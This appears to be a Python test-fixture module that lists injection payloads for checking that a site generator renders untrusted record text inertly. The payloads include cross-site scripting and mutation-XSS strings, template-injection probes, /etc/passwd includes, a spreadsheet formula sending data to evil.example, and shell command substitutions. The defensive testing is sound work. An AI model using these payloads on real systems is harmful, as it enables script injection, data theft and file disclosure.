"""What somebody who means harm may write into a record: markup, scripts, templates, addresses, names of files.

Each attack that runs a script calls `attacked` with its own number, which the browser of the tests notes; each that
fetches something fetches it from `evil.example`.
"""

from __future__ import annotations

import re
from itertools import count

RE_MISSING = re.compile("src=[x1] onerror")

_numbers = count(1)


def _numbered(text: str) -> str:
    """The text with `RUN` as a call of its own."""
    return text.replace("RUN", f"attacked({next(_numbers)})")


LINES = tuple(
    map(
        _numbered,
        (
            # elements
            "<script>RUN</script>",
            "<img src=x onerror=RUN>",
            "<svg onload=RUN>",
            "<svg/onload=RUN//",
            "<body onload=RUN>",
            "<details open ontoggle=RUN>x</details>",
            "<video><source onerror=RUN></video>",
            "<marquee onstart=RUN>x</marquee>",
            "<input autofocus onfocus=RUN>",
            '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
            '<iframe src="javascript:parent.RUN"></iframe>',
            '<object data="data:text/html,<script>parent.RUN</script>"></object>',
            "<embed src=https://evil.example/x.swf>",
            '<base href="https://evil.example/">',
            '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
            '<link rel="stylesheet" href="https://evil.example/x.css">',
            "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
            '<form action="https://evil.example/"><input name=q><button>Search</button></form>',
            '<a href="https://evil.example/" style="position:fixed;inset:0">x</a>',
            "<plaintext>",
            "<template><script>RUN</script></template>",
            "<b>bold</b> <mark>marked</mark>",
            # out of an attribute, an element, a remark, a script
            '"><script>RUN</script>',
            "'><img src=x onerror=RUN>",
            '" onmouseover="RUN" autofocus tabindex="0" onfocus="RUN',
            "' onfocus='RUN' autofocus tabindex='0",
            "x onload=RUN autofocus onfocus=RUN",
            "</title><script>RUN</script>",
            "</textarea></style></noscript><script>RUN</script>",
            "</h1></p></article></main><script>RUN</script>",
            "</mark><img src=x onerror=RUN>",
            "--><script>RUN</script><!--",
            "]]><script>RUN</script>",
            "</script><script>RUN</script>",
            '<!--<script>{"a": "</script><script>RUN</script>',
            '"}];RUN;[{"',
            "\\\"><script>RUN</script>\\'-RUN-\\'",
            "';RUN//\\';RUN//",
            # read twice: escaped already, or in other letters
            "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
            "&lt;script&gt;RUN&lt;/script&gt;",
            "&#60;img src=x onerror=RUN&#62;",
            "&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;",
            "%3Cscript%3ERUN%3C/script%3E",
            "+ADw-script+AD4-RUN+ADw-/script+AD4-",
            "＜script＞RUN＜/script＞ ﹤img src=x onerror=RUN﹥",
            "<ſcript>RUN</ſcript>",
            # what a parser of foreign elements, or a cleaner that is run twice, makes of it
            '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
            '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
            '<noscript><p title="</noscript><img src=x onerror=RUN>">',
            "<scr<script>ipt>RUN</scr</script>ipt>",
            # templates, snippets, patterns of replacement and of format
            "{{ 7*7 }} {{ config }}",
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "{% include '/etc/passwd' %}{% raw %}",
            "{# a remark #} {%- endblock %}",
            "${7*7} #{7*7} <%= 7*7 %> [[7*7]]",
            '--8<-- "/etc/passwd"',
            "{root} {title} {name} {when} {archive} {0} {}",
            "{title.__class__} {when!r:>99}",
            "%s %(title)s %d 100% \\1 \\g<0>",
            "$& $` $' $1 $$",
            # for other programs that read what the site or its checks write
            '=HYPERLINK("https://evil.example/?"&A1, "x")',
            "+1+cmd|' /C calc'!A0",
            "$(touch attacked) `touch attacked` ; touch attacked",
            "::error file=x,line=1::RUN %0A::add-mask::x",
            "javascript:RUN",
            "__proto__",
            "[x](javascript:RUN) <javascript:RUN>",
        ),
    )
)
"""Texts of one line. Each may stand in any field of words and is shown as it is written."""

PAYLOAD = "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYXR0YWNrZWQoMCk8L3NjcmlwdD4="

TEXTS = tuple(
    map(
        _numbered,
        (
            # addresses that run
            "[x](javascript:RUN)",
            "[x](JaVaScRiPt:RUN)",
            "[x](<javascript:RUN>)",
            "[x](vbscript:RUN)",
            "[x](livescript:RUN)",
            "[x](feed:javascript:RUN)",
            "[x](view-source:javascript:RUN)",
            f"[x]({PAYLOAD})",
            "[x](blob:https://evil.example/1)",
            "[x][1]\n\n[1]: javascript:RUN",
            "<javascript:RUN>",
            f"<{PAYLOAD}>",
            "![x](javascript:RUN)",
            "![x](data:image/svg+xml,<svg/onload=RUN>)",
            '<a href="javascript:RUN">x</a>',
            "<a href=javascript&colon;RUN>x</a>",
            # out of the attributes of a link or a picture
            '[x](https://a.example/ "\\" onmouseover=\\"RUN")',
            '[x](https://a.example/ "\\"><script>RUN</script>")',
            '[x](https://a.example/"onmouseover="RUN)',
            "[x](https://a.example/'><script>RUN</script>)",
            '![" onerror="RUN](panel.png)',
            '![x](panel.png "\\" onload=\\"RUN")',
            "![</figure><script>RUN</script>](panel.png)",
            '<img src="panel.png" onload="RUN" srcset="https://evil.example/x.png 1x" usemap="#m" alt="x">',
            '<a href="https://a.example/" onclick="RUN" ping="https://evil.example/" target="_top" download>x</a>',
            '<a href="https://a.example/" style="position:fixed;inset:0;z-index:9" class="skip">x</a>',
            # elements that run, fetch or cover
            "<svg><script href=data:text/javascript,RUN></script></svg>",
            '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
            "<svg><animate onbegin=RUN attributeName=x dur=1s>",
            "<svg><set attributeName=href to=javascript:RUN>",
            '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN></svg>#x"/></svg>',
            "<svg><foreignObject><iframe srcdoc='<script>parent.RUN</script>'></iframe></foreignObject></svg>",
            '<math href="javascript:RUN">x</math>',
            '<math><maction actiontype="statusline" xlink:href="javascript:RUN">x</maction></math>',
            "<form><button formaction=javascript:RUN>x</button></form>",
            '<form id="search-form" action="https://evil.example/"><input name="q"></form>',
            f'<iframe src="{PAYLOAD}"></iframe>',
            f'<object data="{PAYLOAD}"></object>',
            f'<embed src="{PAYLOAD}">',
            '<meta http-equiv="refresh" content="0; url=javascript:RUN">',
            '<link rel="stylesheet" href="data:text/css,*{display:none}">',
            '<link rel="preload" as="image" href="https://evil.example/x.png">',
            '<p style="background: url(https://evil.example/x.png)">x</p>',
            '<p style="width: expression(RUN)">x</p>',
            '<div style="behavior: url(x.htc); -moz-binding: url(https://evil.example/x.xml)">x</div>',
            '<table background="https://evil.example/x.png"><tr><td background="https://evil.example/y.png">x</table>',
            '<body background="https://evil.example/x.png" onload=RUN>',
            '<video poster="https://evil.example/x.png" onerror=RUN><source src=panel.png onload=RUN></video>',
            '<audio src="https://evil.example/x.mp3" autoplay onerror=RUN></audio>',
            "<frameset onload=RUN><frame src=https://evil.example/></frameset>",
            "<applet code=x></applet><bgsound src=https://evil.example/x.mid><layer src=https://evil.example/>",
            "<select autofocus onfocus=RUN><option>x</select><textarea autofocus onfocus=RUN>",
            "<dialog open><h1>Sign in</h1></dialog>",
            '<div id="_text" class="masthead" role="alert" tabindex="1" contenteditable onfocus=RUN>x</div>',
            "<div popover id=x>x</div><button popovertarget=x onbeforetoggle=RUN>x</button>",
            '<img name="getElementById" id="search-words" src="panel.png" alt="x">',
            '<a id="search-words" name="search-words">{"root": "https://evil.example/"}</a>',
            "<p is=x-y xml:base=javascript:RUN onanimationstart=RUN>x</p>",
            # out of the text into the frame
            "</div></div></article></main></body></html><script>RUN</script><h1>Another page</h1>",
            '</div></div></div></article><aside class="facts"><h2>Facts</h2>x</aside>',
            "<table><tr><td></div></table></article><h1>x</h1>",
            # what changes when it is read a second time
            '<p title="</p><script>RUN</script>">x</p>',
            '<span lang="</span><script>RUN</script>">x</span>',
            '<xmp><p title="</xmp><img src=panel.png onload=RUN>"></xmp>',
            "<form><math><mtext></form><form><mglyph><style></math><img src=panel.png onload=RUN>",
            '<select><template><style><!--</style><a rel="--></style></select><img src=panel.png onload=RUN>">',
            '<svg><style><img title="</style><img src=panel.png onload=RUN>"></style></svg>',
            '<textarea><p title="</textarea><img src=panel.png onload=RUN>">',
            "<!--><img src=panel.png onload=RUN>-->",
            "<!-- --!><img src=panel.png onload=RUN> -->",
            "<!-- x\n\n--><img src=panel.png onload=RUN>",
            "<![CDATA[><img src=panel.png onload=RUN>]]>",
            '<?xml-stylesheet href="javascript:RUN"?><?x ><img src=panel.png onload=RUN>?>',
            "<img src=panel.png onload=RUN\n\n<script>RUN</script>",
            "<<script>RUN//<</script>",
            "<scr\0ipt>".replace("\0", "&#0;") + "RUN</script>",
            # Markdown of other dialects, and places where an escape may be forgotten
            "`</code><script>RUN</script>`",
            '```"><script>RUN</script>\n"><script>RUN</script>\n```',
            "    </code></pre><script>RUN</script>",
            '## <img src=panel.png onload=RUN> & " onclick=RUN',
            '## x {#a onclick="RUN"}\n\nx {: onclick="RUN" }',
            '| " onclick="RUN | <script>RUN</script> |\n|:--|--:|\n| <td onclick=RUN> | `|` |',
            'A.[^"><script>RUN</script>]\n\n[^"><script>RUN</script>]: <script>RUN</script>',
            'A.[^1]\n\n[^1]: "><img src=panel.png onload=RUN>',
            "[<img src=panel.png onload=RUN>](https://a.example/)",
            "[![x](javascript:RUN)](javascript:RUN)",
            'https://a.example/<script>RUN</script> <https://a.example/"onclick=RUN>',
            '!!! note "<script>RUN</script>"\n    <script>RUN</script>',
            '--8<-- "../../../../mkdocs.yml"\n\n--8<--\n/etc/passwd\n--8<--\n\n;--8<-- "/etc/passwd"',
            "{{ 7*7 }} {% include 'base.html' %} {# x #} {{ config.plugins }}",
            "$\\href{javascript:RUN}{x}$ \\(\\unicode{<img src=panel.png onload=RUN>}\\)",
            '```mermaid\ngraph TD; A["<img src=panel.png onload=RUN>"]; click A call RUN\n```',
            "[TOC] [[x]] ::: mission_archive\n\n*[x]: <script>RUN</script>",
            "x\u200e\u200f\u200c\u200dx <script>RUN</script>",
        ),
    )
)
"""Texts of records. Each becomes a page on which nothing of it does anything."""

AS_TEXTS = tuple(RE_MISSING.sub("src=panel.png onload", text) for text in LINES)
"""LINES as texts of records: with a picture that is there, for the check would refuse a link to nothing."""
